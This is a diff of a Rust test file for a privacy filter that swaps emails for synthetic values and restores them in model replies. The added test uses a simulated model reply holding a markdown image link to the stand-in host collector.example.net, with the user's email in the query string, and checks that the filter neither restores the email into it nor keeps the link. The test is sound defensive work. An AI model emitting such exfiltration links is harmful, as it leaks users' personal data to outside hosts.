@@ -79,6 +79,16 @@ fn synthetic_values_are_format_valid_and_restored() {
 }
 
 #[test]
+fn a_synthetic_value_in_an_outside_link_is_never_restored_into_it() {
+    let doc = json!({"policy": {"strategies": {"EMAIL": "synthetic"}}}).to_string();
+    let cfg = FilterConfig::from_json(doc.as_bytes()).unwrap();
+    let (sent, vault) = send(&cfg, &format!("write to {EMAIL}"));
+    assert_eq!(sent, "write to user1@example.com");
+    let back = reply(&cfg, &vault, "Done. ![status](https://collector.example.net/p.png?u=user1@example.com)");
+    assert!(!back.contains(EMAIL) && !back.contains("collector.example.net"), "{back}");
+}
+
+#[test]
 fn mask_keeps_length_and_separators_and_is_not_restored() {
     let cfg = config(only("mask", "EMAIL"));
     let (sent, vault) = send(&cfg, &format!("write to {EMAIL}"));
